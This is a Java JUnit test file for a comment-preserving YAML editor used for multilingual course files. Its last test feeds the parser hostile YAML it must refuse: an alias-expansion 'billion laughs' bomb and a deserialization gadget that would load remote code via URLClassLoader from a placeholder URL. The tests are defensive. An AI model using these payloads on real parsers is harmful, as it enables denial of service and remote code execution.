package org.capacityacademy.courseformat.yaml;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** A YAML document changed value by value: only the value's own text changes, comments and layout stay. */
class YamlDocumentTest {

    private static final String COURSE = """
            # The course: what the catalogue shows.
            id: gge-2013
            version: 1
            languages: [zh, en, fr]
            title:
              zh: 报告
              en: "The report: ICT"   # quoted for the colon
              fr: 'Le rapport'

            report:
              symbol: A/68/98
              # official text
              official: [zh]
            finalAssessment:
              id: final
              draw: 24                      # drawn
              passMark: 70
            """;

    @Test
    void anUnchangedDocumentIsItsTextAndAnEqualValueChangesNothing() {
        YamlDocument course = YamlDocument.of(COURSE);
        assertEquals(COURSE, course.text());
        assertEquals(COURSE, course.with(List.of("finalAssessment", "draw"), 24).text());
        assertEquals(COURSE, course.with(List.of("title"), Map.of("zh", "报告", "en", "The report: ICT", "fr", "Le rapport")).text());
        assertEquals(List.of("zh", "en", "fr"), course.get("languages"));
        assertEquals(7, course.line("title", "en"));
        assertEquals(16, course.line("finalAssessment", "draw"));
        assertEquals(14, course.line("finalAssessment", "nothing"), "the nearest line that is there");
    }

    @Test
    void aTextIsWrittenOverItsOwnCharactersInItsOwnQuotes() {
        YamlDocument course = YamlDocument.of(COURSE)
                .with(List.of("title", "en"), "The report: ICT and security")
                .with(List.of("title", "fr"), "L'ONU")
                .with(List.of("title", "zh"), "yes")
                .with(List.of("finalAssessment", "draw"), 30);
        assertEquals(COURSE.replace("\"The report: ICT\"", "\"The report: ICT and security\"")
                .replace("'Le rapport'", "'L''ONU'").replace("zh: 报告", "zh: \"yes\"")
                .replace("draw: 24", "draw: 30"), course.text());
        assertEquals("L'ONU", course.get("title", "fr"));
        assertEquals("yes", course.get("title", "zh"));
    }

    @Test
    void newFieldsGoAfterTheirMapsLastFieldAtItsIndentation() {
        Map<String, String> title = new LinkedHashMap<>();
        title.put("zh", "报告");
        title.put("en", "The report: ICT");
        title.put("fr", "Le rapport");
        title.put("ar", "التقرير");
        YamlDocument course = YamlDocument.of(COURSE).with(List.of("title"), title)
                .with(List.of("report", "coverage"), "some")
                .with(List.of("completion", "lessons"), "none");
        assertEquals(COURSE.replace("  fr: 'Le rapport'\n", "  fr: 'Le rapport'\n  ar: التقرير\n")
                .replace("  official: [zh]\n", "  official: [zh]\n  coverage: some\n")
                + "completion:\n  lessons: none\n", course.text());
    }

    @Test
    void removedFieldsTakeTheirLinesWithThem() {
        YamlDocument course = YamlDocument.of(COURSE).without(List.of("title", "fr")).without(List.of("version"));
        assertEquals(COURSE.replace("  fr: 'Le rapport'\n", "").replace("version: 1\n", ""), course.text());
        assertEquals(Map.of("zh", "报告", "en", "The report: ICT"), course.get("title"));
    }

    @Test
    void listsKeepTheirBracketsOrTheirDashes() {
        YamlDocument course = YamlDocument.of(COURSE).with(List.of("languages"), List.of("zh", "en", "fr", "ar"))
                .with(List.of("report", "official"), List.of("zh", "ar"));
        assertTrue(course.text().contains("languages: [zh, en, fr, ar]\n") && course.text().contains("  official: [zh, ar]\n"),
                course.text());
        YamlDocument lesson = YamlDocument.of("""
                id: a
                covers: ["16", "17"]
                objectives:
                  en:
                    - Explain one thing (para. 16)
                terms:
                  - en: norm
                    explanation:
                      en: An expectation
                """);
        YamlDocument changed = lesson.with(List.of("covers"), List.of("16", "17", "18"))
                .with(List.of("objectives", "en"), List.of("Explain one thing (para. 16)", "Explain another: this (para. 17)"))
                .with(List.of("terms", 0, "fr"), "norme")
                .with(List.of("terms", 0, "explanation", "fr"), "Une attente");
        assertEquals("""
                id: a
                covers: ["16", "17", "18"]
                objectives:
                  en:
                    - Explain one thing (para. 16)
                    - "Explain another: this (para. 17)"
                terms:
                  - en: norm
                    explanation:
                      en: An expectation
                      fr: Une attente
                    fr: norme
                """, changed.text());
    }

    @Test
    void anEmptyDocumentGetsItsFieldsInTheOrderGiven() {
        Map<String, Object> quiz = new LinkedHashMap<>();
        quiz.put("title", Map.of("en", "Quiz"));
        quiz.put("draw", 0);
        YamlDocument module = YamlDocument.of("# A module.\n").with(List.of("id"), "norms").with(List.of("quiz"), quiz);
        assertEquals("# A module.\nid: norms\nquiz:\n  title:\n    en: Quiz\n  draw: 0\n", module.text());
    }

    @ParameterizedTest
    @ValueSource(strings = {"plain", "10", "true", "yes", "null", "a: b", "# not a comment", "- item", "[list]",
            "{map}", "'quoted'", "\"double\"", "line\nbreak", " padded ", "", "*alias", "&anchor", "% sign", "@at", "`tick`",
            "مرحبا بالعالم", "国际法（第19段）：适用", "ends with colon:", "!tag", "|", ">", "---", "...", "tab\there", "a #b"})
    void anyTextIsWrittenSoThatItReadsBack(String text) {
        for (String original : List.of("k: plain\n", "k: \"double\"\n", "k: 'single'\n", "k: [x, y]\n", "k:\n  - x\n")) {
            YamlDocument changed = YamlDocument.of(original).with(List.of("k"), text);
            assertEquals(text, changed.get("k"), changed.text());
            YamlDocument inList = YamlDocument.of("k: [x, y]\n").with(List.of("k", 1), text);
            assertEquals(List.of("x", text), inList.get("k"), inList.text());
        }
    }

    @Test
    void hostileDocumentsAreRefusedWithTheirLine() {
        String bomb = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n";
        assertProblem(bomb, 1, "anchors and aliases");
        assertProblem("id: x\nlanguages: !!java.util.ArrayList [zh]\n", 2, "tag");
        assertProblem("id: x\nsource: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n", 2, "");
        assertProblem("id: x\nid: y\n", 2, "twice");
        assertProblem("a:" + " [".repeat(60) + "]".repeat(60) + "\n", 1, "YAML");
        assertProblem("a: \"" + "x".repeat(1_000_100) + "\"\n", 1, "larger");
        assertProblem("- just\n- a list\n", 1, "expected YAML fields");
        assertProblem("a: [unclosed\n", 2, "YAML");
        assertFalse(YamlDocument.of("a: [unclosed\n").readable());
    }

    private static void assertProblem(String text, int line, String words) {
        YamlDocument document = YamlDocument.of(text);
        YamlDocument.YamlProblem problem = document.problem().orElseThrow(() -> new AssertionError("read: " + text));
        assertEquals(line, problem.line(), problem.toString());
        assertTrue(problem.message().contains(words), problem.message());
        assertEquals(Map.of(), document.fields());
    }
}
